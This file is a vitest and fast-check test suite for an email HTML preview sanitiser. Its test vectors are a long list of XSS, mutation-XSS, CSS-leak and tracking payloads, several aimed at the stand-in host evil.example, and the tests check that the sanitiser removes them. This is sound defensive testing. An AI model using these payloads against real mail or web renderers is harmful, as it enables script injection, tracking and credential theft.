import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MEASURING_SCRIPT } from '../../../src/core/preview/measuring/measuring-script.ts';
import { dangersIn, previewOf, type Options } from './preview-of.ts';

/** The document that the hidden frame measures, without the one script that is ours. */
function measuredOf(html: string, options: Options = {}): string {
  const pieces = previewOf(html, { ...options, nonce: 'bm9uY2U=' }).html.split(
    `<script nonce="bm9uY2U=">${MEASURING_SCRIPT}</script>`,
  );
  expect(pieces.length).toBeLessThanOrEqual(2);
  return pieces.join('');
}

/** Each would run something, load something, send something or change where things lead. */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<body onload=alert(1)><p>x',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="//evil.example/x.js"/></svg>',
  '<svg><use href="//evil.example/x.svg#a"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/pixel.png"/></svg>',
  '<svg><rect fill="url(https://evil.example/a.svg#b)"/></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><style>@import "https://evil.example/a.css";</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><iframe src=x></iframe></desc></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=X archive="https://evil.example/x.jar"></applet>',
  '<portal src="https://evil.example"></portal>',
  '<base href="https://evil.example/">',
  '<base target="_top">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<link rel=preload as=image href="https://evil.example/a.png">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="img-src *">',
  '<meta name=referrer content=unsafe-url><img src="https://evil.example/a.png" referrerpolicy=unsafe-url>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001 java\tscr\nipt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="VBSCRIPT:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:https://example.com">x</a>',
  '<a href="https://example.com" target=_top ping="https://evil.example/p">x</a>',
  '<a href="../../other-preview">x</a>',
  '<area href="javascript:alert(1)" shape=default>',
  '<form action="https://evil.example"><input name=password type=password autofocus><button formaction="https://evil.example">go</button></form>',
  '<input type=image src="https://evil.example/a.png" formaction="javascript:alert(1)">',
  '<video src="https://evil.example/a.mp4" poster="https://evil.example/p.png" autoplay></video>',
  '<audio autoplay><source src="https://evil.example/a.mp3"></audio>',
  '<video><track src="https://evil.example/a.vtt" default></video>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="\\\\evil.example\\share\\a.png">',
  '<img src="/other-preview/cid/secret">',
  '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
  '<picture><source srcset="https://evil.example/a.webp"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>',
  '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b.png">x</table>',
  '<p style="background:url(https://evil.example/a.png)">x</p>',
  '<p style="background:u\\72l(https://evil.example/a.png)">x</p>',
  '<p style="background:url(&quot;https://evil.example/a.png&quot;)">x</p>',
  '<p style="background-image:image-set(&quot;https://evil.example/a.png&quot; 1x)">x</p>',
  '<p style="background:URL( \'https://evil.example/a.png\' ), url(//evil.example/b.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(x.htc)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import url(https://evil.example/a.css);</style>',
  '<style>@\\69mport "https://evil.example/a.css";p{color:red}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}p{font-family:x}</style>',
  '<style>p{background:url(https://evil.example/a.png)}</style>',
  '<style>p::after{content:url("https://evil.example/a.png")}input[value^=a]{background:url(https://evil.example/leak?a)}</style>',
  '<style><!-- p{list-style:url(https://evil.example/a.png)} --></style>',
  '<style>p{cursor:url(https://evil.example/a.cur),auto}</style>',
  '<style>p{background:url(https://evil.example/un closed)}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><script>alert(1)</script>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><template><script>alert(1)</script></template></select>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode=open><iframe src="https://evil.example"></iframe></template></div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![if !mso]><script>alert(1)</script><![endif]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a "onclick="alert(1)" href=#>x</a>',
  '<a<b onclick=alert(1)>x',
  '<img alt="`><img src=x onerror=alert(1)>`">',
  '<p id="x" is="evil-element" onpointerrawupdate=alert(1)>x',
  '<isindex action="javascript:alert(1)" type=image>',
  '<bgsound src="https://evil.example/a.wav">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<dialog open oncancel=alert(1)><button popovertarget=x formaction="javascript:1">x</button></dialog>',
  '<keygen autofocus onfocus=alert(1)>',
  '<html manifest="https://evil.example/m"><p>x',
  '<plaintext><script>alert(1)</script>',
];

describe('a hostile mail', () => {
  it.each(VECTORS)('%s', (vector) => {
    const inBody = `<!DOCTYPE html><html><head><title>t</title></head><body><p>before</p>${vector}</body></html>`;
    for (const html of [vector, inBody, `<table><tr><td>${vector}</td></tr></table>`]) {
      const preview = previewOf(html);
      expect(dangersIn(preview.html)).toEqual([]);
      expect(preview.failure).toBeUndefined();
    }
  });

  it.each(VECTORS)('with images of other servers allowed, still nothing runs: %s', (vector) => {
    const dangers = dangersIn(previewOf(vector, { remoteImages: true, dark: 'forced' }).html);
    expect(
      dangers.filter((danger) => !danger.includes('https://evil.example/') && !danger.includes('url(')),
    ).toEqual([]);
    expect(dangers.filter((danger) => /javascript|@import|\.css|\.js|\.mp|\.vtt/iu.test(danger))).toEqual([]);
  });

  it('also as an AMP part, where AMP’s own scripts go without a word', () => {
    for (const vector of VECTORS) expect(dangersIn(previewOf(vector, { part: 'amp' }).html)).toEqual([]);
  });

  it('is as harmless in the frame that measures it', () => {
    for (const vector of VECTORS) expect(dangersIn(measuredOf(vector))).toEqual([]);
  });

  it('is as harmless with its styles inlined, where juice does not throw', () => {
    let shown = 0;
    for (const vector of VECTORS) {
      let html: string;
      try {
        ({ html } = previewOf(`<style>p{color:red}</style>${vector}`, { inlined: true }));
      } catch {
        // Nothing is shown then.
        continue;
      }
      shown++;
      expect(dangersIn(html), vector).toEqual([]);
    }
    expect(shown).toBeGreaterThan(VECTORS.length * 0.8);
  });

  it('is reported in plain words with counts', () => {
    const { removed } = previewOf(
      '<script>1</script><script>2</script><p onclick=x onmouseover=y><a href="javascript:1">a</a><iframe></iframe>' +
        '<form action=x></form><style>@import "a";</style><meta http-equiv=refresh content=0><img src="javascript:1">',
    );
    expect(Object.fromEntries(removed.map(({ kind, count }) => [kind, count]))).toEqual({
      script: 2,
      'event handler': 2,
      'dangerous address': 2,
      iframe: 1,
      'form target': 1,
      'style import': 1,
      'automatic redirect': 1,
    });
  });

  it('shows the text of elements that take everything after them as text', () => {
    expect(previewOf('<p>a<plaintext>b<b>c').html).toContain('<pre');
    expect(previewOf('<p>a<plaintext>b<b>c').html).toContain('b&lt;b&gt;c');
  });

  it('neither hangs nor overflows on depth', () => {
    const deep = previewOf(`${'<div>'.repeat(20_000)}x`);
    expect(deep.failure).toBeUndefined();
    expect(deep.html).toContain('x</div>');
  });

  it('says so when misnested tags multiply beyond all measure', () => {
    const fonts = Array.from({ length: 3000 }, (_, i) => `<font size=${i}>`).join('');
    const bomb = previewOf(`<p>${fonts}${'</p><p>x'.repeat(3000)}`);
    expect(bomb.failure).toContain('too many elements');
    expect(bomb.html).toContain('too many elements');
    expect(bomb.elements).toEqual([]);
  });
});

/** Tags, halves of tags and attributes in any order: tag soup as a fuzzer cooks it. */
const soup = fc
  .array(
    fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(
        ...'script style svg math p table tr td a b i template noscript title textarea select option iframe xmp noembed plaintext foreignObject desc mtext mglyph annotation-xml form font body html head frameset img input image'
          .split(' ')
          .flatMap((name) => [
            `<${name}>`,
            `</${name}>`,
            `<${name} title="`,
            `<${name} onx=1 style='background:url(`,
          ]),
      ),
      fc.constantFrom(
        '"',
        "'",
        '>',
        '<',
        '-->',
        '<!--',
        '--!>',
        ']]>',
        '<![CDATA[',
        '&lt;',
        '&#0;',
        '/',
        '=',
        ' ',
        '{{',
        '}}',
        '\ue000',
        '\ue001',
        '{{A}}',
      ),
      fc.string({ maxLength: 6 }),
    ),
    { maxLength: 14 },
  )
  .map((pieces) => pieces.join(''));

describe('tag soup', () => {
  it('never throws and never leaves anything dangerous', () => {
    fc.assert(
      fc.property(
        soup,
        fc.constantFrom('html' as const, 'amp' as const),
        fc.boolean(),
        (html, part, imagesOff) => {
          expect(dangersIn(previewOf(html, { part, imagesOff }).html)).toEqual([]);
          expect(dangersIn(measuredOf(html, { part, imagesOff }))).toEqual([]);
        },
      ),
      { numRuns: 600 },
    );
  });
});
